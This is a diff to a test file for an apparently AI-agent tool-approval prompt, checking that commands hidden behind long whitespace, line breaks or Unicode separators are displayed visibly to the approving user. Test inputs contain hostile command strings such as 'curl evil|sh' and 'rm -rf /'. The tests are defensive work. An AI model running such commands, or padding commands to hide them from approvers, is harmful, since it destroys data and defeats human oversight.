@@ -43,13 +43,27 @@ describe('approvalMessage', () => {
     expect(approvalMessage('run', { command: blanks })).toBe(
       'Allow run with {"command":"npm test" ⟨1,500 spaces⟩ "&& curl evil|sh"}?',
     )
-    const lines = `${'\n \t'.repeat(80)}rm -rf /${'\u2003'.repeat(9_000)}`
+    const lines = `${'\n \t'.repeat(80)}rm -rf /${' '.repeat(9_000)}`
     expect(approvalMessage('run', { command: lines, force: true })).toBe(
       'Allow run with {"command":⟨80 line breaks⟩ "rm -rf /" ⟨9,000 spaces⟩,"force":true}?',
     )
     const indented = `if (a) {\n\n\n\n${' '.repeat(60)}b()\n}`
     expect(approvalMessage('run', { code: indented })).toBe(
       `Allow run with {"code":${JSON.stringify(indented)}}?`,
+    )
+  })
+
+  test('what some languages end a line with is not shown as spaces', () => {
+    for (const [separator, shown] of [
+      ['\u2028', '\\u2028'],
+      ['\r', '\\r'],
+      ['\u00a0', '\\u00a0'],
+    ] as const)
+      expect(approvalMessage('run', { code: `// ok${separator.repeat(70)}evil()` })).toContain(
+        `"// ok${shown.repeat(70)}evil()"`,
+      )
+    expect(approvalMessage('run', { code: `// ok${'\r\n'.repeat(70)}evil()` })).toBe(
+      'Allow run with {"code":"// ok" ⟨70 line breaks⟩ "evil()"}?',
     )
   })
 
